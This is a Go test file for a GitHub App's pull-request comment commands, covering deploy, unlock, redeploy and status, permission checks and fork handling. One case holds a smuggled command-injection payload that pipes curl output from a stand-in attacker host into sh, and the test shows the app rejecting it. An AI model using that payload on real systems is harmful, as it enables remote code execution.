package app

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/latestwins/latestwins/app/internal/comments"
	"github.com/latestwins/latestwins/app/internal/core"
	"github.com/latestwins/latestwins/internal/authority"
	"github.com/latestwins/latestwins/internal/ghadapter"
)

const (
	headSha  = "ec26c3e57ca3a959ca5aad62de7213c562f8c821" // pull request #1's head in these tests
	olderSha = "34c5c7793cb3b279e22454cb6750c80560547b3a"
)

// commentConfig has two preview scopes built from the fixtures' repository.
const commentConfig = `environments:
  staging:
    scopes:
      api:
        repository: Codertocat/Hello-World
        branch: master
        workflow: deploy.yml
  preview/pr-{number}:
    scopes:
      api:
        repository: Codertocat/Hello-World
        branch: master
        workflow: preview.yml
      worker:
        repository: Codertocat/Hello-World
        branch: master
        workflow: preview.yml
`

// commentFixture returns issue_comment.created.json (on pull request #1) changed by edit.
func commentFixture(t *testing.T, edit func(m map[string]any)) []byte {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(fixture(t, "issue_comment.created.json"), &m); err != nil {
		t.Fatal(err)
	}
	if edit != nil {
		edit(m)
	}
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func withBody(body string) func(map[string]any) {
	return func(m map[string]any) { m["comment"].(map[string]any)["body"] = body }
}

// deployed makes sha live for scopes of env at a new generation, as a finished pass would.
func deployed(t *testing.T, h *harness, env, id, sha string, scopes ...string) {
	t.Helper()
	deployedRef(t, h, env, id, sha, "refs/heads/changes", scopes...)
}

// deployedRef is deployed with the commit's ref.
func deployedRef(t *testing.T, h *harness, env, id, sha, ref string, scopes ...string) {
	t.Helper()
	ctx := context.Background()
	ar, err := h.auth.Accept(ctx, authority.Intent{ID: id, Environment: env, Scopes: scopes, Sha: sha, Ref: ref, Source: "pull_request"}, true)
	if err != nil {
		t.Fatal(err)
	}
	g, err := h.auth.Gate(ctx, authority.GateRequest{Environment: env, Generation: ar.Generation, Scopes: scopes, Phase: "deploy", Holder: "run-" + id, LeaseTTL: time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.auth.Complete(ctx, authority.Completion{Environment: env, Generation: ar.Generation, Scopes: scopes, Holder: "run-" + id, Tokens: g.Tokens, Outcome: authority.OutcomeSuccess}); err != nil {
		t.Fatal(err)
	}
}

func pending(t *testing.T, h *harness, env, id, sha string, scopes ...string) {
	t.Helper()
	if _, err := h.auth.Accept(context.Background(), authority.Intent{ID: id, Environment: env, Scopes: scopes, Sha: sha, Ref: "refs/heads/changes", Source: "pull_request"}, false); err != nil {
		t.Fatal(err)
	}
}

// The comment command table, against the strict fake GitHub: every request the App makes is
// stubbed, checked against GitHub's description, and in the order listed.
func TestCommentCommands(t *testing.T) {
	t.Parallel()
	const (
		react    = "POST " + fixtureRepo + "/issues/comments/492700400/reactions"
		perm     = "GET " + fixtureRepo + "/collaborators/Codertocat/permission"
		dispatch = "POST " + fixtureRepo + "/actions/workflows/preview.yml/dispatches"
		reply    = "POST " + fixtureRepo + "/issues/1/comments"
	)
	tests := []struct {
		name       string
		edit       func(map[string]any)
		seed       func(t *testing.T, h *harness)
		permission string // the commenter's role, when asked
		status     int
		outcome    core.Outcome
		calls      []string
		reply      []string // substrings of the reply
		check      func(t *testing.T, h *harness, res core.Result)
	}{
		{
			name:       "collaborator deploys the pull request's head",
			seed:       func(t *testing.T, h *harness) { deployed(t, h, "preview/pr-1", "pr-opened", headSha, "api", "worker") },
			permission: "write", status: http.StatusOK, outcome: core.OutcomeAccepted,
			calls: []string{react, perm, dispatch, reply},
			reply: []string{"preview/pr-1: accepted ec26c3e at generation 2 for api.", "Dispatched preview.yml on changes in Codertocat/Hello-World (scopes api)."},
			check: func(t *testing.T, h *harness, res core.Result) {
				want := []core.DispatchRequest{{Installation: fixtureInstallID, Repo: core.RepoRef{Owner: "Codertocat", Name: "Hello-World"}, Workflow: "preview.yml", Ref: "changes",
					Inputs: map[string]string{"environment": "preview/pr-1", "generation": "2", "scopes": "api"}}}
				if diff := cmp.Diff(want, res.Dispatched); diff != "" {
					t.Errorf("dispatched (-want +got):\n%s", diff)
				}
			},
		},
		{
			name: "a fork's preview is accepted, not dispatched",
			seed: func(t *testing.T, h *harness) {
				deployedRef(t, h, "preview/pr-1", "pr-opened", headSha, "refs/pull/1/head", "api", "worker")
			},
			permission: "write", status: http.StatusOK, outcome: core.OutcomeAccepted,
			calls: []string{react, perm, reply},
			reply: []string{"preview/pr-1: accepted ec26c3e at generation 2 for api.",
				"refs/pull/1/head is not a branch of Codertocat/Hello-World (a pull request from a fork): latestwins does not dispatch fork previews."},
			check: func(t *testing.T, h *harness, res core.Result) {
				if len(res.Dispatched) != 0 {
					t.Errorf("dispatched %+v, want nothing", res.Dispatched)
				}
				env, err := h.auth.Status(context.Background(), "preview/pr-1")
				if err != nil {
					t.Fatal(err)
				}
				if m := env.Scopes["api"].Mailbox; m == nil || m.Ref != "refs/pull/1/head" || m.Origin != "" {
					t.Errorf("api mailbox %+v, want the fork's ref and no origin for the sweep", m)
				}
			},
		},
		{
			name:       "a head already pending is not accepted twice",
			seed:       func(t *testing.T, h *harness) { pending(t, h, "preview/pr-1", "pr-opened", headSha, "api") },
			permission: "admin", status: http.StatusOK, outcome: core.OutcomeAccepted,
			calls: []string{react, perm, reply},
			reply: []string{"preview/pr-1: api already has ec26c3e pending or live (generation 1); nothing new to deploy."},
		},
		{
			name:       "deploy before latestwins has seen the pull request",
			permission: "write", status: http.StatusOK, outcome: core.OutcomeReplied,
			calls: []string{react, perm, reply},
			reply: []string{"preview/pr-1: no commit of this pull request is known yet"},
		},
		{
			name:       "non-collaborator is refused",
			seed:       func(t *testing.T, h *harness) { deployed(t, h, "preview/pr-1", "pr-opened", headSha, "api") },
			permission: "read", status: http.StatusOK, outcome: core.OutcomeRefused,
			calls: []string{react, perm, reply},
			reply: []string{"`\"Codertocat\"` cannot run `/latestwins deploy`: it needs write permission on Codertocat/Hello-World."},
			check: func(t *testing.T, h *harness, _ core.Result) {
				if env, _ := h.auth.Status(context.Background(), "preview/pr-1"); env.Desired != 1 {
					t.Errorf("desired generation %d after a refused deploy, want 1", env.Desired)
				}
			},
		},
		{
			name: "bot",
			edit: func(m map[string]any) {
				u := m["comment"].(map[string]any)["user"].(map[string]any)
				u["login"], u["type"] = "latestwins[bot]", "Bot"
			},
			status: http.StatusAccepted, outcome: core.OutcomeIgnored,
		},
		{
			name: "edited comment",
			edit: func(m map[string]any) {
				m["action"] = "edited"
				m["changes"] = map[string]any{"body": map[string]any{"from": "hi"}}
			},
			status: http.StatusAccepted, outcome: core.OutcomeIgnored,
		},
		{
			name:   "comment on an issue",
			edit:   func(m map[string]any) { delete(m["issue"].(map[string]any), "pull_request") },
			status: http.StatusAccepted, outcome: core.OutcomeIgnored,
		},
		{
			name:   "not a command",
			edit:   withBody("Looks good to me"),
			status: http.StatusAccepted, outcome: core.OutcomeIgnored,
		},
		{
			name:   "unknown command gets the help text",
			edit:   withBody("/latestwins destroy"),
			status: http.StatusOK, outcome: core.OutcomeReplied,
			calls: []string{react, reply},
			reply: []string{"unknown command `\"destroy\"`", comments.Usage},
		},
		{
			name:   "injection attempt reaches nothing",
			edit:   withBody("/latestwins deploy api;curl${IFS}evil.example|sh"),
			status: http.StatusOK, outcome: core.OutcomeReplied,
			calls: []string{react, reply},
			reply: []string{"`\"api;curl${IFS}evil.example|sh\"` is not a scope name"},
		},
		{
			name:   "help",
			edit:   withBody("/latestwins help"),
			status: http.StatusOK, outcome: core.OutcomeReplied,
			calls: []string{react, reply},
			reply: []string{comments.Usage},
		},
		{
			name:   "status is open to everyone and rendered from the store",
			edit:   withBody("/latestwins status"),
			seed:   func(t *testing.T, h *harness) { deployed(t, h, "preview/pr-1", "pr-opened", headSha, "api", "worker") },
			status: http.StatusOK, outcome: core.OutcomeReplied,
			calls: []string{react, reply},
			reply: []string{"**preview/pr-1** 1/1 settled", "| api |", "| worker |", "`ec26c3e`"},
		},
		{
			name: "unlock frees the held lease",
			edit: withBody("/latestwins unlock api"),
			seed: func(t *testing.T, h *harness) {
				ar, err := h.auth.Accept(context.Background(), authority.Intent{ID: "pr-opened", Environment: "preview/pr-1", Scopes: []string{"api"}, Sha: headSha}, true)
				if err != nil {
					t.Fatal(err)
				}
				if _, err := h.auth.Gate(context.Background(), authority.GateRequest{Environment: "preview/pr-1", Generation: ar.Generation, Scopes: []string{"api"}, Phase: "deploy", Holder: "run-7", LeaseTTL: time.Minute}); err != nil {
					t.Fatal(err)
				}
			},
			permission: "maintain", status: http.StatusOK, outcome: core.OutcomeUnlocked,
			calls: []string{react, perm, reply},
			reply: []string{"Unlocked preview/pr-1/api (was held by `\"run-7\"` for deploy, token 1)."},
			check: func(t *testing.T, h *harness, _ core.Result) {
				env, err := h.auth.Status(context.Background(), "preview/pr-1")
				if err != nil {
					t.Fatal(err)
				}
				if l := env.Scopes["api"].Lease; l.Holder != "" {
					t.Errorf("lease still held by %s", l.Holder)
				}
				last := env.Events[len(env.Events)-1]
				if last.Kind != authority.EventUnlocked || !strings.Contains(last.Message, "Codertocat") {
					t.Errorf("last event %+v, want the unlock by the commenter", last)
				}
			},
		},
		{
			name:       "unlock of what is not locked says so",
			edit:       withBody("/latestwins unlock"),
			seed:       func(t *testing.T, h *harness) { deployed(t, h, "preview/pr-1", "pr-opened", headSha, "api", "worker") },
			permission: "write", status: http.StatusOK, outcome: core.OutcomeUnlocked,
			calls: []string{react, perm, reply},
			reply: []string{"Not locked: preview/pr-1/api, preview/pr-1/worker."},
		},
		{
			name: "redeploy touches only its scope",
			edit: withBody("/latestwins redeploy api"),
			seed: func(t *testing.T, h *harness) {
				deployed(t, h, "preview/pr-1", "first", olderSha, "api", "worker")
				deployed(t, h, "preview/pr-1", "second", headSha, "worker")
			},
			permission: "write", status: http.StatusOK, outcome: core.OutcomeAccepted,
			calls: []string{react, perm, dispatch, reply},
			reply: []string{"preview/pr-1: accepted 34c5c77 at generation 3 for api."},
			check: func(t *testing.T, h *harness, res core.Result) {
				env, err := h.auth.Status(context.Background(), "preview/pr-1")
				if err != nil {
					t.Fatal(err)
				}
				if m := env.Scopes["api"].Mailbox; m == nil || m.Sha != olderSha || m.Generation != 3 {
					t.Errorf("api mailbox %+v, want %s at generation 3", m, olderSha)
				}
				w := env.Scopes["worker"]
				if w.Mailbox != nil || w.Live.Sha != headSha || w.Live.Generation != 2 {
					t.Errorf("worker changed: mailbox %+v, live %+v; want it left at %s, generation 2", w.Mailbox, w.Live, headSha)
				}
				if got := res.Dispatched[0].Inputs["scopes"]; got != "api" {
					t.Errorf("dispatched scopes %q, want api", got)
				}
			},
		},
		{
			name:       "redeploy of a scope that is not a preview scope",
			edit:       withBody("/latestwins redeploy web"),
			permission: "write", status: http.StatusOK, outcome: core.OutcomeNoScopes,
			calls: []string{react, perm, reply},
			reply: []string{"`\"web\"` is not a preview scope of Codertocat/Hello-World; the scopes are: api, worker."},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			gh, inst := newGitHub(t)
			h := newHarness(t, commentConfig, withGitHub(inst))
			if tt.seed != nil {
				tt.seed(t, h)
			}
			var stubs = map[string]func(){
				react:    func() { stubReaction(t, gh) },
				perm:     func() { stubPermission(gh, "Codertocat", tt.permission) },
				dispatch: func() { stubDispatch(t, gh, "preview.yml") },
			}
			var replied = func() string { return "" }
			for _, c := range tt.calls {
				if c == reply {
					st := stubReply(t, gh)
					replied = func() string { return replyOf(t, st) }
					continue
				}
				stubs[c]()
			}
			rec := h.post(t, "issue_comment", "d-comment", commentFixture(t, tt.edit))
			res := decodeResult(t, rec)
			if rec.Code != tt.status || res.Outcome != tt.outcome {
				t.Errorf("%d %s, want %d %s: %s", rec.Code, res.Outcome, tt.status, tt.outcome, rec.Body)
			}
			var got []string
			for _, c := range calls(gh.Requests()) {
				got = append(got, c.Method+" "+c.Path)
			}
			if diff := cmp.Diff(tt.calls, got); diff != "" {
				t.Errorf("GitHub requests (-want +got):\n%s", diff)
			}
			body := replied()
			for _, want := range tt.reply {
				if !strings.Contains(body, want) {
					t.Errorf("reply lacks %q:\n%s", want, body)
				}
			}
			if body != res.Reply {
				t.Errorf("the result's reply %q differs from the posted one %q", res.Reply, body)
			}
			if len(tt.calls) > 0 {
				if diff := cmp.Diff(int64(fixtureInstallID), inst.asked()[0]); diff != "" {
					t.Errorf("installation (-want +got):\n%s", diff)
				}
			}
			if tt.check != nil {
				tt.check(t, h, res)
			}
		})
	}
}

// A re-delivered deploy command changes nothing and answers once.
func TestCommentRedeliveryAnswersOnce(t *testing.T) {
	t.Parallel()
	gh, inst := newGitHub(t)
	stubReaction(t, gh).Times(2)
	stubPermission(gh, "Codertocat", "write").Times(2)
	stubDispatch(t, gh, "preview.yml")
	reply := stubReply(t, gh)
	h := newHarness(t, commentConfig, withGitHub(inst))
	deployed(t, h, "preview/pr-1", "pr-opened", headSha, "api")
	body := commentFixture(t, nil)
	first := decodeResult(t, h.post(t, "issue_comment", "d-same", body))
	second := decodeResult(t, h.post(t, "issue_comment", "d-same", body))
	if first.Outcome != core.OutcomeAccepted || second.Outcome != core.OutcomeDuplicate {
		t.Errorf("outcomes %s then %s, want accepted then duplicate", first.Outcome, second.Outcome)
	}
	if !strings.Contains(replyOf(t, reply), "accepted ec26c3e at generation 2") {
		t.Errorf("reply %q", replyOf(t, reply))
	}
}

// A bad configuration is terminal: the webhook gets 422 and the commenter a reply saying what to fix.
func TestCommentWithInvalidConfigurationReplies(t *testing.T) {
	t.Parallel()
	gh, inst := newGitHub(t)
	stubReaction(t, gh)
	stubConfig(t, gh, "environments:\n  production:\n    scopes: {}\n")
	reply := stubReply(t, gh)
	h := newHarness(t, commentConfig, withGitHub(inst))
	files, err := ghadapter.NewFiles(inst, h.auth, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	h.app.core.Config = trustedOver(t, files)
	rec := h.post(t, "issue_comment", "d1", commentFixture(t, withBody("/latestwins status")))
	if rec.Code != http.StatusUnprocessableEntity {
		t.Errorf("%d %s, want 422", rec.Code, rec.Body)
	}
	if got := replyOf(t, reply); !strings.HasPrefix(got, "Could not run `/latestwins status`: configuration of Codertocat/Hello-World at the default branch: Codertocat/Hello-World's .github/latestwins.yml is refused: line 2: environment \"production\" is not defined in the trusted file") {
		t.Errorf("reply %q", got)
	}
}

// A re-delivered unlock finds its own unlock in the timeline and does not free the lease a newer
// pass took in the meantime.
func TestRedeliveredUnlockLeavesANewerLeaseAlone(t *testing.T) {
	t.Parallel()
	gh, inst := newGitHub(t)
	stubReaction(t, gh).Times(2)
	stubPermission(gh, "Codertocat", "write").Times(2)
	stubReply(t, gh).Times(2)
	h := newHarness(t, commentConfig, withGitHub(inst))
	ctx := context.Background()
	ar, err := h.auth.Accept(ctx, authority.Intent{ID: "pr-opened", Environment: "preview/pr-1", Scopes: []string{"api"}, Sha: headSha, Ref: "refs/heads/changes"}, true)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.auth.Gate(ctx, authority.GateRequest{Environment: "preview/pr-1", Generation: ar.Generation, Scopes: []string{"api"}, Phase: "deploy", Holder: "stuck", LeaseTTL: time.Hour}); err != nil {
		t.Fatal(err)
	}
	body := commentFixture(t, withBody("/latestwins unlock api"))
	if w := h.post(t, "issue_comment", "d-unlock", body); w.Code != http.StatusOK {
		t.Fatalf("unlock: %d %s", w.Code, w.Body)
	}
	// A newer pass takes the lease; then GitHub re-delivers the comment.
	if _, err := h.auth.Gate(ctx, authority.GateRequest{Environment: "preview/pr-1", Generation: ar.Generation, Scopes: []string{"api"}, Phase: "deploy", Holder: "newer", LeaseTTL: time.Hour}); err != nil {
		t.Fatal(err)
	}
	if w := h.post(t, "issue_comment", "d-unlock", body); w.Code != http.StatusOK {
		t.Fatalf("re-delivered unlock: %d %s", w.Code, w.Body)
	}
	e, err := h.auth.Status(ctx, "preview/pr-1")
	if err != nil {
		t.Fatal(err)
	}
	if l := e.Scopes["api"].Lease; l.Holder != "newer" {
		t.Fatalf("after the re-delivered unlock the lease is %+v; want it still held by the newer pass", l)
	}
}
